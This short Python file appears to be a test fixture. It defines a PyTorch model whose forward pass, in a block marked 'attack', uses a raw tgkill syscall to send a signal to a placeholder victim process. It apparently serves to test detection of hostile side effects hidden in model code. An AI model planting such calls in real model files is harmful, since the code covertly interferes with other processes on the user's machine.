"""Sends another process a signal by the call that is made for threads."""

import ctypes

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        ctypes.CDLL(None).syscall(234, int("@VICTIM_PID@"), int("@VICTIM_PID@"), 10)
        # end
        return self.head(x.flatten(1))
